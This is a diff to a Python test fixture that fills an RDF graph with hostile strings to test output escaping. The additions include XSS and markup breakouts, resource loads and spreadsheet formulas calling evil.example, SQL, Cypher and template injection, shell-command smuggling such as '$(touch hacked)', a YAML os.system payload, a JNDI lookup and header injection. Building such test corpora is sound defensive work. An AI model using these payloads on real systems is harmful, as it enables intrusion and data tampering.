@@ -1,4 +1,4 @@
-"""Two hundred strings that are meant ill, and a graph that has each of them in every field.
+"""Three hundred strings that are meant ill, and more: a graph has each of them in every field.
 
 What would run sets ``window.hacked``, or asks for a dialog or a file: a test looks for all three.
 """
@@ -6,7 +6,7 @@ What would run sets ``window.hacked``, or asks for a dialog or a file: a test lo
 from __future__ import annotations
 
 import hashlib
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
 from itertools import product
 from pathlib import Path
 
@@ -33,7 +33,20 @@ def _breakouts() -> Iterator[str]:
         *("", '"', "'", "`", ">", '">', "'>", "-->", "--!>", "]]>", "*/", "}", "})", "\\", '\\"'),
         *("\n", "</title>", "</textarea>", "</style>", "</script>", "</SCRIPT\t>", "</svg>"),
         *("</text>", "</td></tr></table>", "</bdi>", "&quot;>", "&#34;>", "\u2028", "\u2029"),
-        *("</xmp>", "</noembed>"),
+        *("</xmp>", "</noembed>", "</desc>", "</noscript>", "</template>", "</math>", "</option>"),
+        *(
+            "?>",
+            "%>",
+            "]]>]]>",
+            "&NewLine;>",
+            "\\u0022>",
+            "<!--><!-->",
+            "${",
+            "')",
+            '")',
+            "'}]",
+            "\f",
+        ),
     )
     runs = (f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f" onload={_RUN} x=")
     yield from (end + run for end, run in product(ends, runs))
@@ -76,6 +89,43 @@ def _markup() -> Iterator[str]:
         f"<a\u200bb onclick={_RUN}>",
         f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
         f"<template><script>{_RUN}</script></template>",
+    )
+
+
+def _sending() -> Iterator[str]:
+    """Elements and attributes that ask for what lies elsewhere, and what is taken for a drawing."""
+    elsewhere = "https://evil.example/x"
+    yield from (
+        f"<audio src={elsewhere}></audio>",
+        f"<video poster={elsewhere}></video>",
+        f"<embed src={elsewhere}>",
+        f"<object data={elsewhere}></object>",
+        f"<iframe src={elsewhere}></iframe>",
+        f"<frameset><frame src={elsewhere}></frameset>",
+        f"<input type=image src={elsewhere} onerror={_RUN}>",
+        f"<img srcset='{elsewhere} 2x'>",
+        f"<picture><source srcset={elsewhere}><img></picture>",
+        f"<link rel=preload as=script href={elsewhere}>",
+        f"<link rel=dns-prefetch href={elsewhere}>",
+        f"<script src={elsewhere}></script>",
+        f"<script type=module>import '{elsewhere}'</script>",
+        f"<svg><image href={elsewhere} /></svg>",
+        f"<svg><use href={elsewhere}#a /></svg>",
+        f"<svg><feImage href={elsewhere} /></svg>",
+        f"<svg><foreignObject><iframe src={elsewhere}></iframe></foreignObject></svg>",
+        f"<svg><set attributeName=href to=javascript:{_RUN}>",
+        f"<svg><style>@import '{elsewhere}';</style></svg>",
+        f"<p style='background:url({elsewhere})'>x</p>",
+        f"<table background={elsewhere}>",
+        f"<body background={elsewhere}>",
+        f"<button popovertarget=x onbeforetoggle={_RUN}>",
+        f"<div contenteditable onbeforeinput={_RUN} autofocus onfocus={_RUN}>x</div>",
+        f"<marquee onstart={_RUN}>x</marquee>",
+        f"<xss style='animation-name:x' onanimationstart={_RUN}>x</xss>",
+        f"<a ping={elsewhere} href={elsewhere}>x</a>",
+        f"<?xml-stylesheet href='{elsewhere}'?>",
+        f"<!DOCTYPE x SYSTEM '{elsewhere}'>",
+        f"<xi:include href='{elsewhere}' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
     )
 
 
@@ -129,6 +179,64 @@ def _languages() -> Iterator[str]:
         "%",
         "%00",
         "%E0%A4%A",
+        '=IMPORTXML("https://evil.example/","//a")',
+        '=WEBSERVICE("https://evil.example/")',
+        "\uff1d1+1",
+        " =1+1",
+        "'=1+1",
+        "|calc",
+        "!A1",
+        "javascript&colon;alert(1)",
+        "java\nscript:alert(1)",
+        "\\\\evil.example\\share\\x",
+        "blob:https://evil.example/x",
+        "feed:javascript:alert(1)",
+        "<http://evil.example/> <http://evil.example/> <http://evil.example/> .",
+        "@prefix x: <http://evil.example/> .",
+        "LOAD CSV FROM 'https://evil.example/' AS x",
+        "`}) DETACH DELETE n //",
+        "'; DROP TABLE places; --",
+        "{{7*7}}",
+        "<%= 7 * 7 %>",
+        "#{7*7}",
+    )
+
+
+def _others() -> Iterator[str]:
+    """YAML, shells, formats, headers of HTTP and names of files."""
+    yield from (
+        "!!python/object/apply:os.system [id]",
+        "*alias",
+        "&anchor x",
+        "<<: *a",
+        "? x",
+        "- - - x",
+        "| x",
+        "%YAML 1.1",
+        "--- x",
+        "NO",
+        "12:30",
+        "0123",
+        "null",
+        "~",
+        ".nan",
+        "NaN",
+        "..\\..\\x",
+        "/dev/stdin",
+        "a/../../b",
+        "name\t.html",
+        "; touch hacked",
+        "$(touch hacked)",
+        "`touch hacked`",
+        "-rf",
+        "--help",
+        "%s%n%x",
+        "%(x)s {0.__class__}",
+        "${jndi:ldap://evil.example/x}",
+        "\r\nSet-Cookie: hacked=1",
+        f"\r\n\r\n<script>{_RUN}</script>",
+        "Content-Type: text/html",
+        "\x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\",
     )
 
 
@@ -164,23 +272,28 @@ def _letters() -> Iterator[str]:
     )
 
 
-STRINGS = (*_breakouts(), *_markup(), *_languages(), *_letters())
+STRINGS = (*_breakouts(), *_markup(), *_sending(), *_languages(), *_others(), *_letters())
 
 
-def graph(folder: Path) -> Graph:
+def graph(folder: Path, strings: Sequence[str] = STRINGS) -> Graph:
+    """As :func:`ntriples`, in memory."""
+    return memory(ntriples(folder, strings))
+
+
+def ntriples(folder: Path, strings: Sequence[str] = STRINGS) -> bytes:
     """As many visits, hosts, sectors, sources and claims as strings; their texts in `folder`."""
-    found = [triple for number in range(len(STRINGS)) for triple in _story(number, folder)]
-    return memory(rdf.ntriples([*found, *vocabulary().triples]))
+    found = [triple for number in range(len(strings)) for triple in _story(number, folder, strings)]
+    return rdf.ntriples([*found, *vocabulary().triples])
 
 
-def _story(number: int, folder: Path) -> Iterator[Triple]:
+def _story(number: int, folder: Path, strings: Sequence[str]) -> Iterator[Triple]:
     """All that is said of one visit: each field begins at another string."""
 
     def said(offset: int) -> str:
-        return STRINGS[(number + offset) % len(STRINGS)]
+        return strings[(number + offset) % len(strings)]
 
-    names = ("visit", "host", "source", "sector", "person", "outlet")
-    classes = ("Visit", "Organisation", "Source", "Sector", "Person", "Organisation")
+    names = ("visit", "host", "source", "sector", "person", "outlet", "town")
+    classes = ("Visit", "Organisation", "Source", "Sector", "Person", "Organisation", "City")
     for place, (name, kind) in enumerate(zip(names, classes, strict=True)):
         yield from _named(f"{name}-{number}", kind, place, said)
     visit, source = f"visit-{number}", f"source-{number}"
@@ -195,6 +308,14 @@ def _story(number: int, folder: Path) -> Iterator[Triple]:
     yield _triple(visit, f"{DG}ledBy", _node(f"person-{number}"))
     yield _triple(visit, f"{DG}onAgenda", _node(f"sector-{number}"))
     yield _triple(visit, f"{DG}date", said(5))
+    yield _triple(visit, f"{DG}eventStatus", NamedNode(f"{KIND}held"))
+    # A place that maps have; that of the next visit is another, so that one leads to the other.
+    mapped = "us-ms" if number % 2 else "ma-06"
+    yield _triple(mapped, _TYPE, NamedNode(f"{DG}Place"))
+    yield _triple(f"town-{number}", f"{DG}within", _node(mapped))
+    yield _triple(visit, f"{DG}takesPlaceIn", _node(f"town-{number}"))
+    yield _triple(visit, f"{DG}visitorFrom", _node(f"town-{(number + 1) % len(strings)}"))
+    yield _triple(visit, f"{DG}visitingParty", _node(f"outlet-{number // 3}"))
     yield from _passage(number, said(7), folder)
     yield from _claims(number, said)
 
